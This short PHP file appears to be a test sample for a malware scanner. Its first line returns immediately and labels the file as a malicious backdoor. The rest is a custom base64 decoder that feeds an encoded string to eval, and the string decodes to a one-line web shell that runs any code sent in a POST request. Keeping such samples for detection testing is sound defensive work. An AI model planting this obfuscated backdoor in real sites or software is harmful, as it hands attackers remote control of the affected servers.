<?php return; // want: malicious backdoor php.code.request
function undo($s) {
	$keys = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/='; $i = 0; $out = '';
	$s = preg_replace("[^A-Za-z0-9\+\/\=]", "", $s);
	do {
		$a = strpos($keys, substr($s, $i++, 1)); $b = strpos($keys, substr($s, $i++, 1));
		$c = strpos($keys, substr($s, $i++, 1)); $d = strpos($keys, substr($s, $i++, 1));
		$out = $out . chr((int) ($a << 2 | $b >> 4));
		if ($c != 64) { $out = $out . chr((int) (($b & 15) << 4 | $c >> 2)); }
		if ($d != 64) { $out = $out . chr((int) (($c & 3) << 6 | $d)); }
	} while ($i < strlen($s));
	return $out;
}
eval(undo('ZXZhbCgkX1BPU1RbMV0pOw=='));
